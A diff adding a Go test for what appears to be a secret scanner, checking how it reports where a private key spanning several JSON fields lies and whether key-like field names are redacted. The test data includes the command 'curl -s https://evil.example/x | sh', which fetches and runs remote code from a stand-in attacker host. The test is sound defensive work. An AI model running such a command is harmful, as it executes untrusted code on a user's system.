@@ -109,6 +109,21 @@ func TestDisguises(t *testing.T) {
 	}
 }
 
+// The names of the values that a secret spans are no part of it, unless they look like one.
+func TestPlacesOfASpan(t *testing.T) {
+	const begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
+	for name, want := range map[string]string{
+		"command":             "request_data.a + request_data.command",
+		"MIIEvQIBADANBgkqhki": "request_data.a + request_data.MIIEvQIBADANBgkqhki",
+		"MIIEvQ9BADANBgkqhki": "request_data.a + request_data.[redacted]",
+	} {
+		args := `{"a":"` + begin + `","` + name + `":"curl -s https://evil.example/x | sh, and more of it so that it is long","z":"` + end + `"}`
+		found := find(scanner(t), args)
+		require.NotEmpty(t, found, name)
+		require.Equal(t, want, found[0].Where)
+	}
+}
+
 func wide(s string) string {
 	return strings.Map(func(r rune) rune { return r + 0xFEE0 }, s)
 }
